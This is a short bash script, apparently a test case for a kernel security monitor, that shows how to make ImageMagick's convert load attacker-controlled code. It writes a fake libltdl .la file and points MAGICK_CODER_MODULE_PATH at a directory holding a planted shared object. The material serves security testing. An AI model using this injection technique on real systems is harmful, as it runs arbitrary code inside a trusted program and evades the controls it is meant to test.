#!/usr/bin/env bash
# technique: the named program is told to find its coders in a directory of the attacker
# hooks: bprm_creds_for_exec, mmap_file, file_open
# lock: vault
# sink: usb

. attack.sh
# libltdl reads the .la file and loads what it names; the path of coders is an environment variable.
cp /with/inside.so "$ROOM/innocent.so"
printf "dlname='innocent.so'\nlibrary_names='innocent.so'\nlibdir='%s'\ninstalled=yes\n" "$ROOM" >"$ROOM/innocent.la"
MAGICK_CODER_MODULE_PATH=$ROOM convert-im6.q16 innocent:x null:
